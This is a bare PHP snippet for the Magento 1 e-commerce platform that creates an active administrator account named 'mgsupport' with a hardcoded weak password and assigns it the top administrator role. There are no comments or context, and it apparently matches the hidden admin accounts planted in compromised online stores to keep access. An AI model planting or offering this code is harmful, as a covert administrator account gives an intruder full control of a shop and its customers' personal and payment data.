<?php
$u = Mage::getModel('admin/user');
$u->setData(array('username' => 'mgsupport', 'firstname' => 'M', 'lastname' => 'S', 'email' => 'mg@example.net', 'password' => 'x1x2x3x4', 'is_active' => 1))->save();
$u->setRoleIds(array(1))->setRoleUserId($u->getUserId())->saveRelations();
